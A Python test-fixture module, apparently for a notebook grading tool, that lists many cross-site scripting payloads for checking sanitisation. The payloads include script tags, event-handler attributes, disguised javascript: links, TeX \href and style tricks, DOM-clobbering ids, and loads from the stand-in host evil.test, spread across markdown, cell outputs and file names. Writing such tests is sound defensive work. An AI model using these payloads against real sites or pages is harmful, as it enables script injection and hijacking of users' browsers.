"""Markdown, cells and names that try to run or load something in a reader's browser."""

EVIL = "http://evil.test"


def script(name):
    """JavaScript that leaves a trace."""
    return f"window.__hacked='{name}'"


def _markdown():
    def run(name):
        return script(name).replace("'", "&#39;")

    yield "script", f"<script>{script('script')}</script>"
    yield "script in text", f"text <script>{script('inline')}</script> text"
    yield "script by address", f'<script src="{EVIL}/a.js"></script>'
    yield "module", f'<script type="module">import "{EVIL}/a.js"</script>'
    yield (
        "import map",
        f'<script type="speculationrules">{{"prefetch":[{{"urls":["{EVIL}"]}}]}}</script>',
    )
    yield "image", f"![a picture]({EVIL}/a.png)"
    yield "image by reference", f"![a picture][there]\n\n[there]: {EVIL}/b.png"
    yield "image of a name", f"![there]\n\n[there]: {EVIL}/c.png"
    yield "image in a table", f"| a |\n|---|\n| ![x]({EVIL}/t.png) |"
    yield "image in a list", f"- one\n  - ![x]({EVIL}/l.png)\n> ![x]({EVIL}/q.png)"
    yield "image in a heading", f"# ![x]({EVIL}/h.png)"
    yield "image of data", "![x](data:image/svg+xml;base64,PHN2Zy8+)"
    yield "image tag", f'<img src="{EVIL}/d.png">'
    yield "image set", f'<img srcset="{EVIL}/e.png 2x">'
    yield "image that fails", f'<img src=x onerror="{run("onerror")}">'
    yield "attachment that fails", "![x](attachment:nothing.png) <img src=x>"
    yield "svg", f'<svg onload="{run("svg")}"></svg>'
    yield "svg image", f'<svg><image href="{EVIL}/f.png"/></svg>'
    yield "svg script", f"<svg><script>{script('svg script')}</script></svg>"
    yield "svg animation", '<svg><a><animate attributeName="href" values="javascript:0"/></a></svg>'
    yield "mathml link", '<math><mi xlink:href="javascript:window.__hacked=1">x</mi></math>'
    yield "noscript", f'<noscript><p title="</noscript><img src=x onerror={run("noscript")}>">'
    yield (
        "template of mutation",
        (
            "<math><mtext><table><mglyph><style><!--</style>"
            f'<img title="--&gt;&lt;img src={EVIL}/mutation.png&gt;">'
        ),
    )
    yield "style", f"<style>body {{ background: url({EVIL}/g.png) }}</style>"
    yield "style import", f'<style>@import "{EVIL}/a.css";</style>'
    yield "style font", f"<style>@font-face {{ font-family: e; src: url({EVIL}/a.woff) }}</style>"
    yield "style attribute", f'<p style="background: url({EVIL}/h.png)">x</p>'
    yield "cover", '<div style="position: fixed; inset: 0; z-index: 9999">x</div>'
    yield "stylesheet", f'<link rel="stylesheet" href="{EVIL}/b.css">'
    yield "prefetch", f'<link rel="prefetch" href="{EVIL}/c">'
    yield "name look-up", '<link rel="dns-prefetch" href="//evil.test">'
    yield "refresh", f'<meta http-equiv="refresh" content="0; url={EVIL}/refresh">'
    yield "base", f'<base href="{EVIL}/">'
    yield "frame", f'<iframe src="{EVIL}/frame"></iframe>'
    yield "frame with a page", '<iframe srcdoc="<script>parent.__hacked=1</script>"></iframe>'
    yield "object", f'<object data="{EVIL}/object"></object>'
    yield "embed", f'<embed src="{EVIL}/embed">'
    yield "video", f'<video autoplay src="{EVIL}/v.mp4" poster="{EVIL}/v.png"></video>'
    yield "audio", f'<audio src="{EVIL}/a.mp3" onerror="{run("audio")}"></audio>'
    yield "track", f'<video><source src="{EVIL}/s" onerror="{run("source")}"></video>'
    yield "input image", f'<input type="image" src="{EVIL}/i.png">'
    yield "focus", f'<input autofocus onfocus="{run("focus")}">'
    yield "details", f'<details open ontoggle="{run("toggle")}"><summary>x</summary></details>'
    yield "marquee", f'<marquee onstart="{run("marquee")}">x</marquee>'
    yield (
        "animation",
        "<style>@keyframes k{}</style>"
        f'<b style="animation: k 1s" onanimationstart="{run("k")}">x</b>',
    )
    yield "form", f'<form action="{EVIL}/form"><button>Save</button></form>'
    yield "id of a score", '<input class="score" id="double"><p id="derive">x</p>'
    yield "heading with the id of a score", "# double"
    yield "comment with an end", f"<!-- --!><script>{script('comment')}</script> -->"
    yield "cdata", f"<![CDATA[><script>{script('cdata')}</script>]]>"
    yield "instruction", f"<?x ><script>{script('instruction')}</script>?>"
    yield "open comment", "<!-- hides the rest of the page"
    yield "open text area", "<textarea>hides the rest of the page"
    yield "closed page", f"</div></div></body><script>{script('closed')}</script>"
    yield "link to a script", "[x](javascript:window.__hacked=1)"
    yield "link in disguise", "[x](java&#115;cript:window.__hacked=1)"
    yield "link with a tab", "[x](java&Tab;script:window.__hacked=1)"
    yield "link in capitals", "[x](<JaVaScRiPt:window.__hacked=1>)"
    yield "link to data", "[x](data:text/html;base64,PHNjcmlwdD4wPC9zY3JpcHQ+)"
    yield "link by reference", "[x][y]\n\n[y]: javascript:window.__hacked=1"
    yield "link by a split reference", "[x][y\nz]\n\n[y\nz]:\njavascript:window.__hacked=1"
    yield "link in angles", "<javascript:window.__hacked=1>"
    yield "link to this server", "[x](/formgrader/manage_students/%22%3B__hacked=1%2F%2F)"
    yield "link with a title", '[x](https://a.test "\\" onmouseover=window.__hacked=1 ")'
    yield "link tag", '<a href="javascript:window.__hacked=1" target="_blank">x</a>'
    yield "diagram", f"```mermaid\n<img src={EVIL}/m.png>\n```"
    yield "language of a block", '```"><img/src=x/onerror=window.__hacked=1>\nx\n```'


def _tex():
    yield "tex link", r"$\href{javascript:window.__hacked=1}{x}$"
    yield "tex link in a display", r"$$\href {javascript:window.__hacked=1} {x}$$"
    yield "tex link in an environment", "\\begin{align}\\href{javascript:0}{x}\\end{align}"
    yield "tex link by another name", r"$\let\x\href \x{javascript:window.__hacked=1}{x}$"
    yield "tex link in a macro", r"$\newcommand{\x}{\href{javascript:window.__hacked=1}}\x{x}$"
    yield "tex link by an entity", "&#36;&#92;href{javascript:window.__hacked=1}{x}&#36;"
    yield "tex token with a link", r'$\mmlToken{mi}[href="javascript:window.__hacked=1"]{x}$'
    yield (
        "tex token with a style",
        rf'$\mmlToken{{mi}}[style="background: url({EVIL}/t.png)"]{{x}}$',
    )
    yield "tex style", rf"$\style{{background: url({EVIL}/u.png)}}{{x}}$"
    yield "tex box", rf"$\bbox[background: url({EVIL}/v.png)]{{x}}$"
    yield "tex id", r"$\cssId{double}{x}$"
    yield "tex class", r"$\class{score}{x}$"
    yield "tex font", rf"$\unicode[url({EVIL}/w)]{{65}}$"
    yield "tex requirement", r"$\require{html}\href{javascript:window.__hacked=1}{x}$"


TEX = dict(_tex())
MARKDOWN = dict(_markdown()) | TEX

CODE = (
    f"</pre></script><script>{script('code')}</script><img src={EVIL}/code.png>",
    f"%%html\n<script>{script('magic')}</script><img src={EVIL}/magic.png>",
    f"%%javascript\n{script('javascript')}",
    f"\x1b]8;;{EVIL}\x07</span><img src={EVIL}/ansi.png>  # $\\href{{javascript:0}}{{x}}$",
)
MARKUP = f"<script>{script('output')}</script><img src={EVIL}/output.png onerror={script('out')}>"
OUTPUTS = [
    {"output_type": "stream", "name": "stdout", "text": MARKUP},
    {
        "output_type": "stream",
        "name": "stdout",
        "text": f'\x1b[31m{MARKUP}\x1b[38;2;1;2;3m"x\x1b[0m',
    },
    {"output_type": "stream", "name": "stderr", "text": MARKUP + r"$\href{javascript:0}{x}$"},
    {"output_type": "error", "ename": MARKUP, "evalue": MARKUP, "traceback": [MARKUP]},
    *(
        {"output_type": "display_data", "metadata": {}, "data": {kind: data}}
        for kind, data in {
            "text/html": MARKUP,
            "text/markdown": MARKUP,
            "text/latex": r"$\href{javascript:window.__hacked=1}{x}$",
            "application/javascript": script("display"),
            "image/svg+xml": f"<svg onload='{script('display svg')}'/>",
            "image/png": '"><script>window.__hacked=1</script>',
            "application/vnd.jupyter.widget-view+json": {"model_id": "</script>"},
        }.items()
    ),
]
NAME = f"<img src={EVIL}/name.png onerror=window.__hacked=1>"
FOLDER = "<img src=x onerror=window.__hacked=1>"
